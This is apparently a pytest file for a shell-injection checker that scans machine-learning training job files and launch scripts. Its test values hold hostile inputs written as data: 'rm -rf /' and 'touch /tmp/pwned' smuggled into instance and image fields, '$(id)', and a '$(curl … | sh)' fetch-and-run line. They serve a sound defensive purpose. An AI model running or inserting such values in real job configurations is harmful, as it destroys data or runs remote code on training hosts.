"""The shell-injection check (trainfit.check.injection.find_injection) on job files written elsewhere."""

from __future__ import annotations

import json

import pytest

from trainfit.check.facts import read_facts
from trainfit.check.injection import command_substitutions, find_injection


def _dlc(tmp_path, **spec):
    body = {"JobType": "PyTorchJob", "UserCommand": "torchrun --nnodes=$WORLD_SIZE -m swift.cli.sft --model Qwen/Qwen3-8B",
            "JobSpecs": [{"Type": "Worker", "PodCount": 1, "EcsSpec": "ecs.gn7i-c8g1.2xlarge",
                          "Image": "dsw-registry-vpc.cn-hangzhou.cr.aliyuncs.com/pai/x:1", **spec}]}
    p = tmp_path / "job.json"
    p.write_text(json.dumps(body))
    return read_facts(p)


def test_clean_dlc_job_has_no_finding(tmp_path):
    assert find_injection(_dlc(tmp_path)) == []


@pytest.mark.parametrize("field,value,what", [
    ("EcsSpec", "ecs.gn7i-c8g1.2xlarge\ntouch /tmp/pwned", "line break"),
    ("EcsSpec", "ecs.x;rm -rf /", "';'"),
    ("Image", "registry/x:1 $(id)", "'$'"),
    ("Image", "registry/x:1\u2028touch /tmp/p", "line separator"),
])
def test_metacharacters_in_identifier_fields_are_errors(tmp_path, field, value, what):
    found = find_injection(_dlc(tmp_path, **{field: value}))
    assert [f["severity"] for f in found] == ["error"]
    assert found[0]["rule"] == "shell-injection" and what in found[0]["message"]


def _script(tmp_path, text):
    p = tmp_path / "launch.sh"
    p.write_text("#!/bin/sh\n" + text + "\n")
    return read_facts(p)


def test_substitution_in_training_arguments(tmp_path):
    found = find_injection(_script(tmp_path, "swift sft --model Qwen/Qwen3-8B --output_dir /out/$(date +%s)"))
    assert [f["severity"] for f in found] == ["warning"] and "$(date +%s)" in found[0]["message"]
    found = find_injection(_script(tmp_path, 'swift sft --model Qwen/Qwen3-8B --dataset "$(curl -s http://x | sh)"'))
    assert [f["severity"] for f in found] == ["error"]


@pytest.mark.parametrize("text", [
    "swift sft --model Qwen/Qwen3-8B --system '$(curl http://x)'",
    "swift sft --model Qwen/Qwen3-8B --per_device_train_batch_size $((WORLD_SIZE * 2)) --seed $RANK",
    "LAST=$(ls -d /ckpt/* | tail -n 1)\nswift sft --model Qwen/Qwen3-8B --resume_from_checkpoint $LAST",
    "swift sft --model Qwen/Qwen3-8B --system \\$(not run)",
])
def test_quoted_escaped_arithmetic_and_non_training_lines_pass(tmp_path, text):
    assert find_injection(_script(tmp_path, text)) == []


def test_command_substitutions_scanner():
    assert command_substitutions("a $(b $(c)) `d` '$(e)' \"$(f)\" $((1+2)) \\$(g)") == ["$(b $(c))", "`d`", "$(f)"]
    assert command_substitutions("x" * 100_000 + "$(") == ["$("]


def test_bad_env_names(tmp_path):
    p = tmp_path / "job.json"
    p.write_text(json.dumps({"JobSpecs": [{"PodCount": 1, "EcsSpec": "ecs.a"}], "UserCommand": "true",
                             "Envs": {"OK_NAME": "1", "BAD;touch x": "1"}}))
    found = find_injection(read_facts(p))
    assert len(found) == 1 and "BAD;touch x" in found[0]["message"]


def test_line_injected_into_a_rendered_header_is_an_error(tmp_path):
    from trainfit.cli import main

    out = tmp_path / "job"
    assert main(["render", "Qwen3-0.6B", "--method", "lora", "--gpu", "A10", "--target", "torchrun",
                 "--out", str(out)]) == 0
    text = (out / "launch.sh").read_text()
    assert find_injection(read_facts(out / "launch.sh")) == []
    # what trainfit 0.1 wrote for --region $'cn-hangzhou\ntouch /tmp/pwned'
    lines = text.splitlines()
    i = next(k for k, ln in enumerate(lines) if ln.startswith("# instance "))
    lines.insert(i + 1, "touch /tmp/pwned")
    bad = tmp_path / "bad.sh"
    bad.write_text("\n".join(lines) + "\n")
    found = find_injection(read_facts(bad))
    assert [f["severity"] for f in found] == ["error"] and "touch /tmp/pwned" in found[0]["message"]


def test_rule_adapter_gives_violations(tmp_path):
    from trainfit.check.injection import rule_shell_injection

    vs = rule_shell_injection(_dlc(tmp_path, EcsSpec="ecs.x\nid"))
    assert [(v.rule, v.severity) for v in vs] == [("shell-injection", "error")]
